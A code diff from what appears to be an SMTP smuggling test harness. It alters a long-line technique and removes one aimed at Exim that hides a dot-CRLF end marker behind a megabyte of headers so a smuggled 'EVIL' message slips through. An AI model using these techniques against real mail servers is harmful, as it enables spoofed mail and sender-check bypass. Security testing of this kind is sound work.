@@ -89,20 +89,8 @@ def smuggling_long_line(attack: Attack) -> None:
     connection = attack.text()
     for _ in range(100):
         connection.put(b"a" * 1010)
-        connection.read()
+        attack.wait(0.01)
     for part in (b".\r\n", EVIL, b"more text\r\n.\r\n"):
-        attack.wait(0.05)
-        connection.put(part)
-
-
-@technique("smuggling-long-header", "a dot and CRLF in a header's line behind 1 MiB of it: Exim", server=LOOSE)
-def smuggling_long_header(attack: Attack) -> None:
-    connection = attack.text()
-    attack.forbidden += [rb"[^\r\n]\.\r\nEXPN"]
-    for _ in range(1025):
-        connection.put(b"X: %s\r\n" % (b"a" * 1020))
-        connection.read()
-    for part in (b"x.\r\n", EVIL, b"more text\r\n.\r\n"):
         attack.wait(0.05)
         connection.put(part)
 
